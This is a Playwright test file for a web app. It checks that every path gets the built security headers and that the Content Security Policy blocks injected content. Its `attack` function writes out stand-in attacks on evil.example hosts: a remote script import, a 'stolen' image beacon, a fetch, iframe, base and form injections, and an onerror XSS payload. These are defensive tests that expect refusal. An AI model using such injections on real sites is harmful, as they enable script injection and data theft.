import { readFileSync } from 'node:fs';
import { expect, test } from '../fixtures.ts';

/** The headers that the built file `_headers` sets for every path. */
function builtHeaders(): Record<string, string> {
  const file = readFileSync(new URL('../../dist/_headers', import.meta.url), 'utf8');
  const [everyPath = ''] = file.split('\n\n');
  const lines = [...everyPath.matchAll(/^ {2}([\w-]+): (.*)$/gm)];
  return Object.fromEntries(lines.map(([, name = '', value = '']) => [name.toLowerCase(), value]));
}

for (const path of [
  '/',
  '/course/new-since-the-build',
  '/auth/login',
  '/missing',
  '/favicon.svg',
]) {
  test(`sends the headers of the build with ${path}`, async ({ request }) => {
    const headers = builtHeaders();
    expect(Object.keys(headers)).toHaveLength(9);
    expect((await request.get(path)).headers()).toMatchObject(headers);
  });
}

/** Tries what an attacker who could write into the page would try. @returns the directives that did not refuse */
async function attack(): Promise<string[]> {
  const { body } = document;
  const add = (name: string, properties: object) =>
    body.append(Object.assign(document.createElement(name), properties));
  const attempts: Record<string, () => unknown> = {
    'script-src-elem': () => import(String('https://evil.example/x.js')),
    'style-src-attr': () => body.setAttribute('style', 'color: red'),
    'style-src-elem': () =>
      document.head.appendChild(document.createElement('style')).append('p{}'),
    'img-src': () => add('img', { src: 'https://evil.example/?stolen' }),
    'connect-src': () => fetch('https://evil.supabase.co/rest/v1/').catch(() => {}),
    'frame-src': () => add('iframe', { src: 'https://evil.example/' }),
    'base-uri': () => add('base', { href: 'https://evil.example/' }),
    'form-action': () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      body.append(form);
      form.submit();
    },
    'require-trusted-types-for': () => add('p', { innerHTML: '<img src=x onerror=alert(1)>' }),
  };
  const open = new Set(Object.keys(attempts));
  document.addEventListener('securitypolicyviolation', (event) => {
    open.delete(event.effectiveDirective);
  });
  for (const attempt of Object.values(attempts)) {
    try {
      await attempt();
    } catch {
      // Refused with an exception, and with an event.
    }
  }
  const until = Date.now() + 5000;
  while (open.size > 0 && Date.now() < until) await new Promise((done) => setTimeout(done, 50));
  return [...open];
}

test('refuses what an attacker would put into a page', async ({ page, consoleErrors }) => {
  consoleErrors.allow(/Content Security Policy|Trusted/);
  await page.goto('/about');
  expect(await page.evaluate(attack)).toEqual([]);
});
